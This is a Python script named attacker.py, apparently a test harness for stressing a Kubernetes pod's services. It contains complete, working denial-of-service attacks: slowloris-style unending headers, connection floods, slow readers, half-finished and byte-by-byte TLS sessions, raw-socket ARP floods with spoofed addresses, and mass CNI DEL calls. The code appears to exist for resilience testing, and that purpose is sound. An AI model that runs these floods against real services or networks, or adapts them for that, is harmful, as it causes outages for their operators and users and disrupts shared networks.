"""What an attacker runs: standard library only, because a pod's python3 gets it as text.

    attacker.py SECONDS[:ENOUGH] KIND ARGUMENT...

heads HOST PORT...     150 connections to each port, each with 800 kB of a request's head that never ends
idle HOST PORT...      1,100 connections to each port that send nothing
slow HOST PORT...      200 requests for /metrics on each port, whose answers are not read
quick HOST PORT...     32 callers of each port, who ask for /metrics as fast as they are answered
garbage HOST PORT...   64 connections to each port that send random bytes
connect HOST PORT...   32 callers of each port, who close each connection at once
unfinished HOST PORT...  150 connections to each port with half of a TLS ClientHello
handshakes HOST PORT...  32 callers of each port, who close each connection after its TLS handshake
records HOST PORT...   32 connections to each port, whose requests come by TLS in records of one byte
arp                    ARP requests for the default gateway of eth0, each from another address that nobody has
dels PLUGIN CONFLIST   DELs of sandboxes that never were, 4 at a time, by the CNI plugin of that path

A connection that ends is made again until the SECONDS are over, at most `MOST` times in all; with ENOUGH only until so
many came about, and one had an answer where each is answered. Prints what it did as JSON:
{"tries": number, "opened": connections that came about, "answers": number, "failures": {why: number}}.
"""

import asyncio
import functools
import json
import os
import random
import resource
import socket
import ssl
import struct
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Sequence
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

MOST = 100_000
FRAMES = 200_000
DELS = 5_000
HEAD_LINE = b"X-Padding: " + b"a" * 7_987 + b"\r\n"
HEAD_LINES = 100
REQUEST = b"GET /metrics HTTP/1.1\r\nHost: attacked\r\n"
REST_S = 0.02
"""After a connection that failed at once."""
LOOK_S = 0.05
ANSWERED = {"quick", "handshakes"}
"""Kinds whose connections are answered each time."""

tries = 0
opened = 0
answers = 0
failures: Counter[str] = Counter()

Behaviour = Callable[[socket.socket], Awaitable[None]]


async def heads(connection: socket.socket) -> None:
    """A head that never ends."""
    loop = asyncio.get_running_loop()
    await loop.sock_sendall(connection, REQUEST)
    for _ in range(HEAD_LINES):
        await loop.sock_sendall(connection, HEAD_LINE)
    await until_closed(connection)


async def until_closed(connection: socket.socket) -> None:
    """Take whatever comes, until the other side closes."""
    global answers  # noqa: PLW0603  a count of the whole process
    loop = asyncio.get_running_loop()
    answered = False
    while await loop.sock_recv(connection, 65_536):
        answered = True
    answers += answered


async def slow(connection: socket.socket) -> None:
    """Ask, and never read the answer: the other side has nowhere to put it."""
    await asyncio.get_running_loop().sock_sendall(connection, REQUEST + b"\r\n")
    await asyncio.sleep(3600)


async def quick(connection: socket.socket) -> None:
    """A whole request, and its answer."""
    await asyncio.get_running_loop().sock_sendall(connection, REQUEST + b"Connection: close\r\n\r\n")
    await until_closed(connection)


async def garbage(connection: socket.socket) -> None:
    """Bytes that mean nothing, some with line ends, so that they are looked at as lines."""
    loop = asyncio.get_running_loop()
    for _ in range(20):
        await loop.sock_sendall(connection, random.randbytes(4_096) + b"\r\n\r\n")
    await until_closed(connection)


async def closed_at_once(_: socket.socket) -> None:
    """Nothing more than a connection."""


async def unfinished(connection: socket.socket) -> None:
    """The other side waits for the rest of a handshake."""
    outgoing = ssl.MemoryBIO()
    try:
        anybody().wrap_bio(ssl.MemoryBIO(), outgoing).do_handshake()
    except ssl.SSLWantReadError:
        hello = outgoing.read()
    await asyncio.get_running_loop().sock_sendall(connection, hello[: len(hello) // 2])
    await until_closed(connection)


async def handshakes(connection: socket.socket) -> None:
    """A whole handshake, and nothing after it."""
    global answers  # noqa: PLW0603  a count of the whole process
    await shaken(connection)
    answers += 1


async def records(connection: socket.socket) -> None:
    """Each record costs the other side as much as a whole request would."""
    tls, outgoing = await shaken(connection)
    for letter in REQUEST + HEAD_LINE:
        tls.write(bytes([letter]))
        await asyncio.get_running_loop().sock_sendall(connection, outgoing.read())


async def shaken(connection: socket.socket) -> tuple[ssl.SSLObject, ssl.MemoryBIO]:
    """TLS after its handshake, and where it puts what is to be sent."""
    loop, incoming, outgoing = asyncio.get_running_loop(), ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = anybody().wrap_bio(incoming, outgoing)
    while True:
        try:
            tls.do_handshake()
        except ssl.SSLWantReadError:
            await loop.sock_sendall(connection, outgoing.read())
            data = await loop.sock_recv(connection, 65_536)
            if not data:
                raise ConnectionResetError(0, "closed in the handshake") from None
            incoming.write(data)
        else:
            await loop.sock_sendall(connection, outgoing.read())
            return tls, outgoing


@functools.cache
def anybody() -> ssl.SSLContext:
    """Trusts whoever answers."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


CONNECTIONS: dict[str, tuple[int, Behaviour]] = {
    "heads": (150, heads),
    "idle": (1_100, until_closed),
    "slow": (200, slow),
    "quick": (32, quick),
    "garbage": (64, garbage),
    "connect": (32, closed_at_once),
    "unfinished": (150, unfinished),
    "handshakes": (32, handshakes),
    "records": (32, records),
}
"""How many at a time, and what each does."""


class DidEnough(Exception):
    """It ends before its time."""


async def flood(kind: str, seconds: float, places: Sequence[tuple[str, int]], *, enough: int = 0) -> None:
    """Keep that many connections of a kind to each place. `enough`: 0 for no end but that of the time."""
    count, behave = CONNECTIONS[kind]
    end_s = asyncio.get_running_loop().time() + seconds
    try:
        async with asyncio.TaskGroup() as tasks:
            for place in places:
                for _ in range(count):
                    tasks.create_task(keep(place, behave, end_s))
            if enough:
                tasks.create_task(until_enough(kind, enough, end_s))
    except* DidEnough:
        pass


async def until_enough(kind: str, count: int, end_s: float) -> None:
    """Raises DidEnough after `count` connections; of a kind that is answered, not before the first answer."""
    while asyncio.get_running_loop().time() < end_s:
        if opened >= count and (answers or kind not in ANSWERED):
            raise DidEnough
        await asyncio.sleep(LOOK_S)


async def keep(place: tuple[str, int], behave: Behaviour, end_s: float) -> None:
    """One connection after another until then."""
    global tries, opened  # noqa: PLW0603  counts of the whole process
    loop = asyncio.get_running_loop()
    while loop.time() < end_s and tries < MOST:
        tries += 1
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as connection:
            connection.setblocking(False)
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # a reset ends it
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2_048)
            try:
                async with asyncio.timeout_at(end_s):
                    await loop.sock_connect(connection, place)
                    opened += 1
                    await behave(connection)
            except OSError as error:
                if loop.time() < end_s:
                    failures[error.strerror or type(error).__name__] += 1
        await asyncio.sleep(REST_S)


def flood_with_arp(seconds: float) -> None:
    """ARP requests in portions, with a rest of a millisecond between them."""
    global tries  # noqa: PLW0603  a count of the whole process
    target = gateway()
    broadcast = b"\xff" * 6
    end_s = time.monotonic() + seconds
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
        link.bind(("eth0", 0))
        while time.monotonic() < end_s and tries < FRAMES:
            for _ in range(50):
                mac = b"\x02" + random.randbytes(5)
                sender = bytes((10, 240, random.randrange(256), random.randrange(1, 255)))
                request = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + mac + sender + bytes(6) + target
                try:
                    link.send(broadcast + mac + b"\x08\x06" + request)
                except OSError as error:
                    failures[str(error.strerror)] += 1
                tries += 1
            time.sleep(0.001)


def gateway() -> bytes:
    """The default gateway, as the kernel's table has it."""
    for line in Path("/proc/net/route").read_text().splitlines()[1:]:
        _, destination, address, *_ = line.split()
        if int(destination, 16) == 0:
            return struct.pack("<I", int(address, 16))
    sys.exit("cannot find a default gateway")


def flood_with_dels(seconds: float, plugin: str, conflist: str) -> None:
    """DELs as a runtime would make them, each of a sandbox of its own."""
    whole = json.loads(Path(conflist).read_text())
    configuration = json.dumps(whole["plugins"][0] | {"cniVersion": "1.0.0", "name": whole["name"]}).encode()
    end_s = time.monotonic() + seconds

    def delete(number: int) -> None:
        global tries, answers  # noqa: PLW0603  a count of the whole process
        if time.monotonic() > end_s:
            return
        tries += 1
        place = {"CNI_COMMAND": "DEL", "CNI_CONTAINERID": f"never-{number}", "CNI_IFNAME": "eth0", "CNI_NETNS": ""}
        done = subprocess.run(
            [plugin], input=configuration, env=place | {"CNI_PATH": "/opt/cni/bin"}, capture_output=True, check=False
        )
        answers += done.returncode == 0
        if done.returncode:
            failures[done.stdout.decode()[:200]] += 1

    with ThreadPoolExecutor(4) as callers:
        list(callers.map(delete, range(DELS)))


def main(arguments: Sequence[str]) -> None:
    os.nice(19)
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, 8_192), most))
    match arguments:
        case [limit, kind, host, *ports] if kind in CONNECTIONS:
            seconds, _, enough = limit.partition(":")
            places = [(host, int(port)) for port in ports]
            asyncio.run(flood(kind, float(seconds), places, enough=int(enough or 0)))
        case [seconds, "arp"]:
            flood_with_arp(float(seconds))
        case [seconds, "dels", plugin, conflist]:
            flood_with_dels(float(seconds), plugin, conflist)
        case words:
            sys.exit(f"cannot do {words}: see the module's docstring")
    did = {"tries": tries, "opened": opened, "answers": answers}
    print(json.dumps(did | {"failures": dict(failures.most_common(5))}))


if __name__ == "__main__":
    main(sys.argv[1:])
